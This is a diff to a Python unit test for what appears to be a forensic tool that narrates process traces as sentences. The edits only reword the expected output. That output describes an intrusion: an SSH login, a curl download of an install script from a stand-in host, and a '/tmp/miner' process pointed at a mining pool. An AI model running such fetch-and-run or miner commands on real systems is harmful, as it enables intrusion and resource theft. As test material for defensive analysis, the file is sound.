@@ -33,9 +33,9 @@ class Stories(unittest.TestCase):
     def test_why_back_to_the_login(self):
         self.assert_in_order(
             told(self.store, "why", "9"),
-            "It belongs to trace 2: ssh login of ana from 198.51.100.7",
+            "It is part of trace 2: ssh login of ana from 198.51.100.7",
             "sshd (pid 812, root) took a connection from 198.51.100.7 port 50022 on port 22",
-            "sshd (pid 812, root) ran -bash (pid 815, later ana)",
+            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
             'bash (pid 815, ana) ran "curl -s https://example.org/install.sh" (pid 900)',
             "curl (pid 900, ana) connected to example.org (93.184.216.34 port 443)",
             'dash (pid 901, ana) ran "/tmp/miner --pool 203.0.113.9:3333 --quiet" (pid 910)',
@@ -52,6 +52,6 @@ class Stories(unittest.TestCase):
         sentences = told(self.store, "impact", "trace:2")
         self.assert_in_order(
             sentences,
-            "sshd (pid 812, root) ran -bash (pid 815, later ana)",
+            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
             "curl (pid 900, ana) connected to nginx (pid 501, www-data) at 127.0.0.1 port 8080")
         self.assertFalse([s for s in sentences if "pid 950" in s or "listened" in s])
